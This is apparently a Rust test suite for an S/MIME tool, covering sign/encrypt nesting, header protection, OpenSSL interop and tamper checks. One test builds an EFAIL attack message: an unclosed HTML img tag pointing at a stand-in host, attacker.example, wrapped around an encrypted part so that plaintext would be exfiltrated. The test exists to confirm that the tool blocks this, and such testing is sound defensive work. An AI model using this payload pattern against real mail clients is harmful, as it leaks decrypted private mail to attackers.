//! `smime protect` and `smime open`: nesting (sign, encrypt, triple wrap), header protection
//! (RFC 9788), EFAIL (only the protected part comes out), the depth limit, and interop with
//! `openssl cms` both ways (OpenSSL decrypts and verifies our output; we open OpenSSL's
//! sign-then-encrypt).
//!
//! The PKI (root, intermediate, and leaves alice and bob that can sign and encrypt) is made
//! once with the openssl CLI. Without `openssl` the tests say so and pass, unless
//! `SMIME_TEST_REQUIRE_PEERS` is set.

mod common;

use std::ffi::OsStr;
use std::fs;
use std::path::Path;
use std::process::Command;
use std::sync::OnceLock;

use common::*;
use serde_json::Value;
use tempfile::TempDir;

struct Fixture {
    pki: Pki,
    alice: Leaf,
    bob: Leaf,
    /// An EC P-256 encryption-only recipient (ECDH key agreement).
    carol: Recipient,
    /// Owns the directory (kept for the whole test run).
    _dir: TempDir,
}

/// The shared PKI, or None when openssl is missing.
fn fixture() -> Option<&'static Fixture> {
    static FIXTURE: OnceLock<Option<Fixture>> = OnceLock::new();
    FIXTURE
        .get_or_init(|| {
            let (dir, pki) = pki_in_temp_dir("smime-protect-")?;
            // One certificate per person for signing and key transport, as mail clients have.
            let usage = "digitalSignature,keyEncipherment";
            let leaf = |name| {
                pki.recipient(RecipientKey::Rsa, name, usage)
                    .leaf(&pki)
                    .expect("an RSA recipient is a leaf")
            };
            let (alice, bob) = (leaf("alice"), leaf("bob"));
            let carol = pki.recipient(RecipientKey::P256, "carol", "keyAgreement");
            Some(Fixture {
                pki,
                alice,
                bob,
                carol,
                _dir: dir,
            })
        })
        .as_ref()
}

const BODY: &str = "The numbers are in: 42.\r\nSecond line.\r\n";

/// A message from alice to bob.
fn message(subject: &str, extra_headers: &str) -> Vec<u8> {
    format!(
        "From: Alice <alice@example.com>\r\nTo: Bob <bob@example.com>\r\nSubject: {subject}\r\n\
         Date: Mon, 23 Nov 2026 09:00:00 +0000\r\nMessage-ID: <protect-test@example.com>\r\n{extra_headers}\
         MIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n{BODY}"
    )
    .into_bytes()
}

fn p(path: &Path) -> &OsStr {
    path.as_os_str()
}

/// `smime protect` as alice (with the intermediate), to bob unless `extra` says otherwise;
/// the output file is in `stdout`.
fn protect(f: &Fixture, input: &[u8], to_bob: bool, extra: &[&str]) -> Outcome {
    let tmp = f.pki.scratch();
    let (inp, out) = (tmp.path().join("in.eml"), tmp.path().join("out.eml"));
    fs::write(&inp, input).unwrap();
    let mut args: Vec<&OsStr> = vec![
        "protect".as_ref(),
        "--cert".as_ref(),
        p(&f.alice.cert),
        "--key".as_ref(),
        p(&f.alice.key),
        "--chain".as_ref(),
        p(&f.pki.intermediate),
    ];
    if to_bob {
        args.extend(["--to".as_ref(), p(&f.bob.cert)]);
    }
    args.extend(extra.iter().map(OsStr::new));
    args.extend(["--in".as_ref(), p(&inp), "--out".as_ref(), p(&out)]);
    let mut o = smime(&args);
    o.stdout = fs::read(&out).unwrap_or_default();
    o
}

/// What `smime open --json` did: the outcome (output file in `stdout`, empty when none was
/// written), and the JSON report from standard error.
struct Opened {
    outcome: Outcome,
    report: Value,
    written: bool,
}

/// `smime open --json --trust root` with bob's key, and `extra` flags.
fn open_as(f: &Fixture, input: &[u8], keys: &[&Leaf], extra: &[&str]) -> Opened {
    let tmp = f.pki.scratch();
    let (inp, out) = (tmp.path().join("in.eml"), tmp.path().join("out.eml"));
    fs::write(&inp, input).unwrap();
    let mut args: Vec<&OsStr> = vec!["open".as_ref(), "--json".as_ref()];
    args.extend(["--trust".as_ref(), p(&f.pki.root)]);
    for leaf in keys {
        args.extend([
            "--cert".as_ref(),
            p(&leaf.cert),
            "--key".as_ref(),
            p(&leaf.key),
        ]);
    }
    args.extend(extra.iter().map(OsStr::new));
    args.extend(["--in".as_ref(), p(&inp), "--out".as_ref(), p(&out)]);
    let mut outcome = smime(&args);
    let written = out.exists();
    outcome.stdout = fs::read(&out).unwrap_or_default();
    let report = serde_json::from_str(&outcome.stderr).unwrap_or(Value::Null);
    Opened {
        outcome,
        report,
        written,
    }
}

fn open(f: &Fixture, input: &[u8]) -> Opened {
    open_as(f, input, &[&f.bob], &[])
}

/// (kind, status) of every layer, outside in.
fn layers(r: &Value) -> Vec<(String, String)> {
    r["layers"]
        .as_array()
        .unwrap_or(&vec![])
        .iter()
        .map(|l| {
            (
                l["kind"].as_str().unwrap_or("?").to_string(),
                l["status"].as_str().unwrap_or("?").to_string(),
            )
        })
        .collect()
}

fn pairs(list: &[(&str, &str)]) -> Vec<(String, String)> {
    list.iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

/// The check of one outer field in the header protection report.
fn outer_check<'a>(r: &'a Value, name: &str) -> &'a Value {
    r["header_protection"]["outer"]
        .as_array()
        .and_then(|a| a.iter().find(|c| c["name"] == name))
        .unwrap_or_else(|| panic!("no outer check for {name}: {r:#}"))
}

#[test]
fn protect_sign_encrypt_then_open_round_trip() {
    let Some(f) = fixture() else { return };
    let o = protect(f, &message("quarterly numbers", ""), true, &[]);
    o.assert_ok();
    let protected = o.stdout_text();
    assert!(!protected.contains("quarterly numbers"), "{protected}");
    assert!(!protected.contains("42."), "the body must be encrypted");
    assert!(
        protected.contains("smime-type=enveloped-data"),
        "{protected}"
    );
    let opened = open(f, &o.stdout);
    opened.outcome.assert_code(0);
    assert_eq!(
        layers(&opened.report),
        pairs(&[("encrypted", "decrypted"), ("signed", "valid")]),
        "{}",
        opened.outcome
    );
    assert_eq!(opened.report["valid"], true);
    let out = opened.outcome.stdout_text();
    assert!(out.contains("The numbers are in: 42."), "{out}");
    assert!(out.contains("Subject: quarterly numbers\r\n"), "{out}");
    assert!(!out.contains("HP-Outer"), "{out}");
    // The opened message can be read again as a plain message: no S/MIME layer is left.
    let again = open(f, &opened.outcome.stdout);
    again.outcome.assert_code(1);
    assert_eq!(layers(&again.report), vec![]);
}

#[test]
fn protect_triple_wrap_then_open_has_three_good_layers() {
    let Some(f) = fixture() else { return };
    let o = protect(
        f,
        &message("triple", ""),
        true,
        &["--triple-wrap", "--cipher", "aes-256-gcm"],
    );
    o.assert_ok();
    assert!(
        o.stdout_text().contains("multipart/signed"),
        "outer signature"
    );
    let opened = open(f, &o.stdout);
    opened.outcome.assert_code(0);
    assert_eq!(
        layers(&opened.report),
        pairs(&[
            ("signed", "valid"),
            ("encrypted", "decrypted"),
            ("signed", "valid")
        ]),
        "{}",
        opened.outcome
    );
    assert_eq!(opened.report["layers"][1]["algorithm"], "AES-256-GCM");
    assert!(opened
        .outcome
        .stdout_text()
        .contains("The numbers are in: 42."));
}

/// Encryption to an EC recipient (ECDH key agreement, RFC 5753) and to bob at once: each
/// opens it with their own key.
#[test]
fn protect_to_ec_and_rsa_recipients_then_each_opens() {
    let Some(f) = fixture() else { return };
    let extra = ["--to", f.carol.cert.to_str().unwrap()];
    let o = protect(f, &message("two recipients", ""), true, &extra);
    o.assert_ok();
    let carol = f.carol.leaf(&f.pki).expect("a P-256 recipient is a leaf");
    for (who, leaf) in [("carol", &carol), ("bob", &f.bob)] {
        let opened = open_as(f, &o.stdout, &[leaf], &[]);
        opened.outcome.assert_code(0);
        assert_eq!(
            layers(&opened.report),
            pairs(&[("encrypted", "decrypted"), ("signed", "valid")]),
            "{who}: {}",
            opened.outcome
        );
        assert!(opened
            .outcome
            .stdout_text()
            .contains("The numbers are in: 42."));
    }
}

#[test]
fn protect_compress_then_open_round_trip() {
    let Some(f) = fixture() else { return };
    let o = protect(f, &message("compressed", ""), true, &["--compress"]);
    o.assert_ok();
    assert!(o.stderr.contains("signed, compressed, enveloped"), "{o}");
    let opened = open(f, &o.stdout);
    opened.outcome.assert_code(0);
    assert_eq!(
        layers(&opened.report),
        pairs(&[
            ("encrypted", "decrypted"),
            ("compressed", "decompressed"),
            ("signed", "valid")
        ]),
        "{}",
        opened.outcome
    );
    assert_eq!(opened.report["layers"][1]["algorithm"], "zlib");
    let out = opened.outcome.stdout_text();
    assert!(out.contains("The numbers are in: 42."), "{out}");
    assert!(out.contains("Subject: compressed\r\n"), "{out}");
}

/// A compressed layer that expands past `--max-size` is refused (exit 2), nothing written.
#[test]
fn open_compressed_layer_past_the_limit_is_refused() {
    let Some(f) = fixture() else { return };
    let big = "a".repeat(70);
    let body: String = (0..40_000).map(|_| format!("{big}\r\n")).collect();
    let input = format!(
        "From: Alice <alice@example.com>\r\nSubject: bomb\r\nContent-Type: text/plain\r\n\r\n{body}"
    );
    let o = protect(f, input.as_bytes(), false, &["--compress"]);
    o.assert_ok();
    assert!(o.stdout.len() < 100_000, "{} bytes", o.stdout.len());
    let opened = open_as(f, &o.stdout, &[], &["--max-size", "1M"]);
    opened.outcome.assert_code(2);
    assert!(!opened.written);
    let opened = open_as(f, &o.stdout, &[], &[]);
    opened.outcome.assert_code(0);
}

/// `--cipher auto` with a signed message bob sent: his SMIMECapabilities announce AES-GCM,
/// so the encrypted layer is AuthEnvelopedData.
#[test]
fn protect_cipher_auto_follows_the_recipients_capabilities() {
    let Some(f) = fixture() else { return };
    let from_bob = smime_sign(
        &f.pki,
        &f.bob,
        &plain_message("bob@example.com", "hello"),
        &[],
        false,
    );
    from_bob.assert_ok();
    let tmp = f.pki.scratch();
    let signed = tmp.path().join("from-bob.eml");
    fs::write(&signed, &from_bob.stdout).unwrap();
    let o = protect(
        f,
        &message("capabilities", ""),
        true,
        &["--capabilities", signed.to_str().unwrap()],
    );
    o.assert_ok();
    let opened = open(f, &o.stdout);
    opened.outcome.assert_code(0);
    assert_eq!(
        opened.report["layers"][0]["form"], "authEnvelopedData",
        "{}",
        opened.outcome
    );
}

#[test]
fn protect_triple_wrap_without_recipients_is_usage_error() {
    let Some(f) = fixture() else { return };
    let o = protect(f, &message("x", ""), false, &["--triple-wrap"]);
    o.assert_code(2);
    assert!(o.stderr.contains("--to"), "{o}");
    assert!(o.stdout.is_empty());
}

#[test]
fn protect_output_is_read_by_openssl_decrypt_then_verify() {
    let Some(f) = fixture() else { return };
    let o = protect(f, &message("for openssl", ""), true, &[]);
    o.assert_ok();
    let tmp = f.pki.scratch();
    let (enc, dec, ver) = (
        tmp.path().join("enc.eml"),
        tmp.path().join("dec.eml"),
        tmp.path().join("ver.eml"),
    );
    fs::write(&enc, &o.stdout).unwrap();
    let d = run(Command::new("openssl")
        .args(["cms", "-decrypt", "-in"])
        .arg(&enc)
        .arg("-recip")
        .arg(&f.bob.cert)
        .arg("-inkey")
        .arg(&f.bob.key)
        .arg("-out")
        .arg(&dec));
    d.assert_ok();
    let v = run(Command::new("openssl")
        .args(["cms", "-verify", "-in"])
        .arg(&dec)
        .arg("-CAfile")
        .arg(&f.pki.root)
        .arg("-certfile")
        .arg(&f.pki.intermediate)
        .arg("-out")
        .arg(&ver));
    v.assert_ok();
    let content = fs::read_to_string(&ver).unwrap();
    assert!(content.contains("The numbers are in: 42."), "{content}");
    // The protected header fields travel inside, with hp="cipher" (RFC 9788).
    assert!(content.contains("Subject: for openssl"), "{content}");
    assert!(content.contains("hp=\"cipher\""), "{content}");
}

/// openssl signs (S/MIME, detached) and then encrypts the signed message: we open both layers.
#[test]
fn open_reads_openssl_sign_then_encrypt() {
    let Some(f) = fixture() else { return };
    let tmp = f.pki.scratch();
    let (content, signed, enc) = (
        tmp.path().join("content"),
        tmp.path().join("signed.eml"),
        tmp.path().join("enc.eml"),
    );
    fs::write(
        &content,
        format!("Content-Type: text/plain; charset=us-ascii\r\n\r\n{BODY}"),
    )
    .unwrap();
    run(Command::new("openssl")
        .args(["cms", "-sign", "-in"])
        .arg(&content)
        .arg("-signer")
        .arg(&f.alice.cert)
        .arg("-inkey")
        .arg(&f.alice.key)
        .arg("-certfile")
        .arg(&f.pki.intermediate)
        .arg("-out")
        .arg(&signed))
    .assert_ok();
    run(Command::new("openssl")
        .args(["cms", "-encrypt", "-aes256", "-in"])
        .arg(&signed)
        .args(["-from", "alice@example.com", "-to", "bob@example.com"])
        .args(["-subject", "from openssl", "-out"])
        .arg(&enc)
        .arg(&f.bob.cert))
    .assert_ok();
    let opened = open(f, &fs::read(&enc).unwrap());
    opened.outcome.assert_code(0);
    assert_eq!(
        layers(&opened.report),
        pairs(&[("encrypted", "decrypted"), ("signed", "valid")]),
        "{}",
        opened.outcome
    );
    let out = opened.outcome.stdout_text();
    assert!(out.contains("The numbers are in: 42."), "{out}");
    assert!(out.contains("Subject: from openssl"), "{out}");
    assert!(opened.report["header_protection"].is_null());
}

/// Decrypt with openssl, change one byte of the signed text, encrypt again: the encrypted
/// layer is fine, the signature inside is not, nothing is output, exit 1.
#[test]
fn open_changed_inner_byte_is_bad_signature() {
    let Some(f) = fixture() else { return };
    let o = protect(f, &message("tamper", ""), true, &[]);
    o.assert_ok();
    let tmp = f.pki.scratch();
    let (enc, dec, changed, reenc) = (
        tmp.path().join("enc.eml"),
        tmp.path().join("dec.eml"),
        tmp.path().join("changed.eml"),
        tmp.path().join("reenc.eml"),
    );
    fs::write(&enc, &o.stdout).unwrap();
    run(Command::new("openssl")
        .args(["cms", "-decrypt", "-in"])
        .arg(&enc)
        .arg("-recip")
        .arg(&f.bob.cert)
        .arg("-inkey")
        .arg(&f.bob.key)
        .arg("-out")
        .arg(&dec))
    .assert_ok();
    let signed = fs::read(&dec).unwrap();
    fs::write(
        &changed,
        replace_once(&signed, b"are in: 42", b"are in: 43"),
    )
    .unwrap();
    run(Command::new("openssl")
        .args(["cms", "-encrypt", "-aes256", "-binary", "-in"])
        .arg(&changed)
        .arg("-out")
        .arg(&reenc)
        .arg(&f.bob.cert))
    .assert_ok();
    let mut message = b"From: Alice <alice@example.com>\r\n".to_vec();
    message.extend(fs::read(&reenc).unwrap());
    let opened = open(f, &message);
    opened.outcome.assert_code(1);
    assert_eq!(
        layers(&opened.report),
        pairs(&[("encrypted", "decrypted"), ("signed", "bad-signature")]),
        "{}",
        opened.outcome
    );
    assert_eq!(opened.report["valid"], false);
    assert!(!opened.written, "nothing may be output for a bad signature");
}

#[test]
fn open_signed_only_changed_body_is_bad_signature() {
    let Some(f) = fixture() else { return };
    let o = protect(f, &message("signed only", ""), false, &[]);
    o.assert_ok();
    let changed = replace_once(&o.stdout, b"are in: 42", b"are in: 43");
    let opened = open_as(f, &changed, &[], &[]);
    opened.outcome.assert_code(1);
    assert_eq!(
        layers(&opened.report),
        pairs(&[("signed", "bad-signature")]),
        "{}",
        opened.outcome
    );
    assert!(!opened.written);
}

#[test]
fn open_changed_outer_subject_is_reported() {
    let Some(f) = fixture() else { return };
    // Encrypted: the sender wrote "Subject: [...]" outside (and recorded it in HP-Outer).
    let o = protect(f, &message("the real subject", ""), true, &[]);
    o.assert_ok();
    let changed = replace_once(&o.stdout, b"Subject: [...]", b"Subject: URGENT pay now");
    let opened = open(f, &changed);
    opened.outcome.assert_code(0);
    let check = outer_check(&opened.report, "Subject");
    assert_eq!(check["status"], "changed", "{:#}", opened.report);
    assert_eq!(check["outer"][0], "URGENT pay now");
    assert_eq!(check["protected"][0], "the real subject");
    assert_eq!(check["sent_outside"][0], "[...]");
    let problems = opened.report["header_protection"]["problems"].to_string();
    assert!(problems.contains("URGENT pay now"), "{problems}");
    // The output shows the protected Subject, never the changed outer one.
    let out = opened.outcome.stdout_text();
    assert!(out.contains("Subject: the real subject\r\n"), "{out}");
    assert!(!out.contains("URGENT"), "{out}");

    // Signed only (hp="clear"): a changed outer Subject is reported the same way.
    let o = protect(f, &message("the real subject", ""), false, &[]);
    o.assert_ok();
    let changed = replace_once(
        &o.stdout,
        b"Subject: the real subject",
        b"Subject: URGENT pay now",
    );
    let opened = open_as(f, &changed, &[], &[]);
    opened.outcome.assert_code(0);
    assert_eq!(opened.report["header_protection"]["hp"], "clear");
    assert_eq!(
        outer_check(&opened.report, "Subject")["status"],
        "changed",
        "{:#}",
        opened.report
    );
}

#[test]
fn header_protection_round_trip() {
    let Some(f) = fixture() else { return };
    let input = message("the Jones contract", "Keywords: contract, secret\r\n");
    let o = protect(f, &input, true, &[]);
    o.assert_ok();
    let outer = header_value(&o.stdout, "Subject");
    assert_eq!(
        outer.as_deref(),
        Some("[...]"),
        "hcp_baseline obscures the Subject"
    );
    assert!(
        header_value(&o.stdout, "Keywords").is_none(),
        "hcp_baseline drops Keywords"
    );
    assert_eq!(
        header_value(&o.stdout, "From").as_deref(),
        Some("Alice <alice@example.com>")
    );
    let opened = open(f, &o.stdout);
    opened.outcome.assert_code(0);
    let hp = &opened.report["header_protection"];
    assert_eq!(hp["hp"], "cipher");
    let protected: Vec<(String, String)> = hp["protected"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["name"].as_str().unwrap().to_string(),
                f["value"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    for (name, value) in [
        ("From", "Alice <alice@example.com>"),
        ("To", "Bob <bob@example.com>"),
        ("Subject", "the Jones contract"),
        ("Date", "Mon, 23 Nov 2026 09:00:00 +0000"),
        ("Message-ID", "<protect-test@example.com>"),
        ("Keywords", "contract, secret"),
    ] {
        assert!(
            protected.contains(&(name.to_string(), value.to_string())),
            "{name} missing from {protected:?}"
        );
    }
    assert_eq!(outer_check(&opened.report, "Subject")["status"], "obscured");
    assert_eq!(outer_check(&opened.report, "Keywords")["status"], "removed");
    assert_eq!(outer_check(&opened.report, "From")["status"], "same");
    assert_eq!(hp["problems"].as_array().map(Vec::len), Some(0));
    let out = &opened.outcome.stdout;
    assert_eq!(
        header_value(out, "Subject").as_deref(),
        Some("the Jones contract")
    );
    assert_eq!(
        header_value(out, "Keywords").as_deref(),
        Some("contract, secret")
    );
    let ct = header_value(out, "Content-Type").unwrap();
    assert_eq!(header_param(&ct, "hp").as_deref(), Some("cipher"));

    // --keep-subject: the Subject stays visible outside, and is then "same".
    let o = protect(f, &input, true, &["--keep-subject"]);
    o.assert_ok();
    assert_eq!(
        header_value(&o.stdout, "Subject").as_deref(),
        Some("the Jones contract")
    );
    let opened = open(f, &o.stdout);
    opened.outcome.assert_code(0);
    assert_eq!(outer_check(&opened.report, "Subject")["status"], "same");

    // Signed only: hp="clear", every field stays outside.
    let o = protect(f, &input, false, &[]);
    o.assert_ok();
    assert_eq!(
        header_value(&o.stdout, "Subject").as_deref(),
        Some("the Jones contract")
    );
    assert!(o.stdout_text().contains("hp=\"clear\""));
    assert!(!o.stdout_text().contains("HP-Outer"));
}

/// EFAIL: a multipart/mixed with a clear part around an encrypted part. Only the decrypted
/// part comes out; the clear parts are reported as not merged.
#[test]
fn open_efail_clear_parts_around_encrypted_part_are_not_merged() {
    let Some(f) = fixture() else { return };
    let o = protect(f, &message("inner", ""), true, &[]);
    o.assert_ok();
    let (_, encrypted_body) = split_header(&o.stdout);
    let mut attack = b"From: Alice <alice@example.com>\r\nTo: Bob <bob@example.com>\r\nSubject: hi\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"efail\"\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--efail\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_vec();
    attack.extend_from_slice(encrypted_body);
    attack.extend_from_slice(b"\r\n--efail\r\nContent-Type: text/plain\r\n\r\n\">tail of the exfiltration\r\n--efail--\r\n");
    let opened = open(f, &attack);
    opened.outcome.assert_code(0);
    let out = opened.outcome.stdout_text();
    assert!(out.contains("The numbers are in: 42."), "{out}");
    assert!(!out.contains("attacker.example"), "{out}");
    assert!(!out.contains("exfiltration"), "{out}");
    let r = &opened.report;
    assert_eq!(r["protected_part"], "part 2");
    let parts: Vec<&str> = r["not_merged"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["part"].as_str().unwrap())
        .collect();
    assert_eq!(parts, ["part 1", "part 3"]);
    let notes = r["notes"].to_string();
    assert!(notes.contains("NOT merged"), "{notes}");
}

#[test]
fn open_depth_limit_exceeded_is_clear_error() {
    let Some(f) = fixture() else { return };
    let mut m = message("deep", "");
    for _ in 0..9 {
        let o = smime_sign(&f.pki, &f.alice, &m, &[], false);
        o.assert_ok();
        m = o.stdout;
    }
    let opened = open(f, &m);
    opened.outcome.assert_code(2);
    assert!(
        opened.outcome.stderr.contains("more than 8 S/MIME layers"),
        "{}",
        opened.outcome
    );
    assert!(!opened.written);
    // Eight layers are still fine.
    let mut m = message("deep", "");
    for _ in 0..8 {
        m = smime_sign(&f.pki, &f.alice, &m, &[], false).stdout;
    }
    let opened = open(f, &m);
    opened.outcome.assert_code(0);
    assert_eq!(layers(&opened.report).len(), 8);
}

#[test]
fn open_without_matching_key_is_invalid_and_writes_nothing() {
    let Some(f) = fixture() else { return };
    let o = protect(f, &message("not for alice", ""), true, &[]);
    o.assert_ok();
    let opened = open_as(f, &o.stdout, &[&f.alice], &[]);
    opened.outcome.assert_code(1);
    assert_eq!(
        layers(&opened.report),
        pairs(&[("encrypted", "not-recipient")])
    );
    assert!(!opened.written);
    let opened = open_as(f, &o.stdout, &[], &[]);
    opened.outcome.assert_code(1);
    assert_eq!(layers(&opened.report), pairs(&[("encrypted", "no-key")]));
    // Several keys: the one that fits is found.
    let opened = open_as(f, &o.stdout, &[&f.alice, &f.bob], &[]);
    opened.outcome.assert_code(0);
}

#[test]
fn open_malformed_input_is_exit_2() {
    let Some(f) = fixture() else { return };
    let garbage = b"From: a@example.com\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nnot base64 at all!\r\n";
    let opened = open(f, garbage);
    opened.outcome.assert_code(2);
    assert!(!opened.written);
    assert!(
        opened.outcome.stderr.contains("error"),
        "{}",
        opened.outcome
    );
}

/// A message the signing stage cannot read: exit 2, the stage named, no output file.
#[test]
fn protect_malformed_input_names_the_stage_and_writes_nothing() {
    let Some(f) = fixture() else { return };
    let bad = b"From: Alice <alice@example.com>\r\nContent-Type: multipart/mixed\r\n\r\nno boundary\r\n\xff\xfe";
    let o = protect(f, bad, true, &[]);
    o.assert_code(2);
    assert!(o.stdout.is_empty(), "no output file may remain");
    assert!(o.stderr.contains("sign stage: malformed MIME"), "{o}");
}

/// `--out` naming a FIFO (like `/dev/null`, not a regular file): the output goes through it
/// on commit, and the FIFO stays a FIFO (renaming a temporary file over it would replace it).
#[test]
fn output_to_a_fifo_writes_through_it_and_keeps_it() {
    use std::os::unix::fs::FileTypeExt;
    use std::process::Stdio;
    use std::time::{Duration, Instant};

    let Some(f) = fixture() else { return };
    if !require_peer("mkfifo") {
        return;
    }
    let tmp = f.pki.scratch();
    let (input, fifo) = (tmp.path().join("in.eml"), tmp.path().join("out.fifo"));
    fs::write(&input, message("to a fifo", "")).unwrap();
    run(Command::new("mkfifo").arg(&fifo)).assert_ok();
    let mut reader = Command::new("cat")
        .arg(&fifo)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let o = smime(&[
        "protect".as_ref(),
        "--cert".as_ref(),
        p(&f.alice.cert),
        "--key".as_ref(),
        p(&f.alice.key),
        "--in".as_ref(),
        p(&input),
        "--out".as_ref(),
        p(&fifo),
    ]);
    let deadline = Instant::now() + Duration::from_secs(10);
    while reader.try_wait().unwrap().is_none() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    let _ = reader.kill();
    let read = reader.wait_with_output().unwrap().stdout;
    o.assert_ok();
    let kind = fs::symlink_metadata(&fifo).unwrap().file_type();
    assert!(kind.is_fifo(), "the FIFO was replaced by {kind:?}");
    let text = String::from_utf8_lossy(&read);
    assert!(text.starts_with("From: Alice"), "{text}");
    assert!(text.contains("multipart/signed"), "{text}");
}
